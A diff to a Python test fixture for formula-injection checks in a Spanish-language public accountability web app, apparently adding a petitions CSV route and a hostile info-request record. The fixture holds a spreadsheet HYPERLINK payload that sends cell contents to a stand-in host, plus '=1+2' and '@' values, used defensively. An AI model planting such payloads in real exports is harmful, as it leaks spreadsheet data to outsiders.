@@ -14,7 +14,7 @@ from monitoring.matrix_services import snapshot_generate
 from monitoring.models import MatrixSnapshot
 from projects.models import FundingSource, Product, Project
 from strategy.models import DevelopmentPlan, Indicator, Program
-from tests.accountability.builders import execution, report
+from tests.accountability.builders import execution, info_request, report
 from tests.action_plan.builders import program_all
 
 HYPERLINK = '=HYPERLINK("http://x?d="&C5,"clic")'
@@ -45,6 +45,7 @@ def hostile_data(*, planner, director, lead) -> SimpleNamespace:
     lead.first_name, lead.last_name = "=1+2", "@lead"
     lead.save()
 
+    info_request(received_on=dt.date(2025, 3, 3), filing_number=HYPERLINK[:40])  # a radicado is typed by staff
     rep = report(by=planner)
     accountability_services.report_transition(by=planner, report=rep, name="send")
     accountability_services.report_transition(by=director, report=rep, name="approve")
@@ -86,6 +87,9 @@ SPREADSHEET_ROUTES = {
     "accountability:public_csv": (
         "anonymous", lambda d: [f"/rendicion/publico/{d.report.pk}/{t}.csv" for t in ("programas", "proyectos", "territorios")]
     ),
+    "accountability:public_petitions_csv": (
+        "anonymous", lambda d: ["/rendicion/publico/peticiones/2025-T1/trimestral.csv", "/rendicion/publico/peticiones/2025/acceso.csv"]
+    ),
 }
 # Downloads that are not spreadsheets (PDFs, JSON, uploaded files): see test_content_disposition.py.
 OTHER_DOWNLOAD_ROUTES = {
@@ -93,6 +97,7 @@ OTHER_DOWNLOAD_ROUTES = {
     "budget:poai_pdf", "action_plan:pdf", "action_plan:public_pdf", "monitoring:evidence_download",
     "accountability:request_answer_file", "accountability:session_questionnaire", "accountability:report_pdf",
     "accountability:public_pdf", "accountability:public_json",
+    "accountability:petitions_report_pdf", "accountability:public_petitions_json",
 }
 # Management commands that write a spreadsheet (checked in test_formula_injection.py).
 EXPORT_COMMANDS = {"export_workbook", "export_matrix"}
